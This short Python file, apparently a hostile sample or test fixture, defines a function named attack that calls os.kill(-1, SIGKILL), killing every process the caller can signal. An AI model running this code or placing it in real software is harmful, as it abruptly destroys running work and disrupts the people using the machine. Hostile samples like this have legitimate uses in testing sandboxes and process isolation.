"""Kills all that it may."""

import os
import signal


def attack(x):
    os.kill(-1, signal.SIGKILL)
